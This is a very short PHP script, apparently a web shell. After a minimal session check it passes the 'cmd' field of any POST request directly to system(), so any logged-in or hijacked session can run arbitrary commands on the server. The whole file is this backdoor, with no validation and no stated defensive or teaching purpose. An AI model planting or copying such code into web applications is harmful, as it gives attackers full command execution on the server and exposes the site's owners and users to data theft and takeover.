<?php
session_start();
if (!isset($_SESSION["user"])) exit;
system($_POST["cmd"]);
